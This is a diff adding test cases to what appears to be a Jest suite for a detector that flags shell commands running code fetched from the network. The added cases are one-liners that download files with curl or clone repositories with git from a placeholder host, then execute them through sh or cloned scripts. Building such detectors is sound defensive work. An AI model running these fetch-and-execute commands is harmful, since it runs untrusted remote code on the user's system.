@@ -45,6 +45,19 @@ describe('readCommand with files that are fetched and unpacked', () => {
     ['curl -o a/i.py https://x.example/i && python3 -c "import os, a.i as j"', 'https://x.example/i'],
     ['curl -o i.py https://x.example/i && python3 -c "from i import f"', 'https://x.example/i'],
     ['echo "import i" > i.py; curl https://x.example/i >> i.py; python3 -m i', 'https://x.example/i'],
+    ['curl -o i https://x.example; [ -s i ] || echo true > i; sh i', 'https://x.example'],
+    ['if ! curl -o i https://x.example; then echo true > i; fi; sh i', 'https://x.example'],
+    ['if x; then curl -o i https://x.example; else echo true > i; fi; sh i', 'https://x.example'],
+    ['curl -o i https://x.example; x || cp /dev/null i; sh i', 'https://x.example'],
+    ['git clone https://x.example/a; x || echo true > a/i; sh a/i', 'https://x.example/a'],
+    ['git clone https://x.example/a && npm -v && a/i.sh', 'https://x.example/a'],
+    ['git clone https://x.example/a && npm ls && a/i.sh', 'https://x.example/a'],
+    ['git clone https://x.example/a && cargo -V && a/i.sh', 'https://x.example/a'],
+    ['git clone https://x.example/a && go version && a/i.sh', 'https://x.example/a'],
+    ['git clone https://x.example/a && python3 -m pip list && a/i.sh', 'https://x.example/a'],
+    ['git clone https://x.example/a && make -n && a/i.sh', 'https://x.example/a'],
+    ['git clone https://x.example/a && ssh h make && a/i.sh', 'https://x.example/a'],
+    ['git clone https://x.example/a && docker run node npm ci && a/i.sh', 'https://x.example/a'],
   ])('sees that %s runs code from %s', (text, source) => {
     expect(sources(text)).toContain(source);
   });
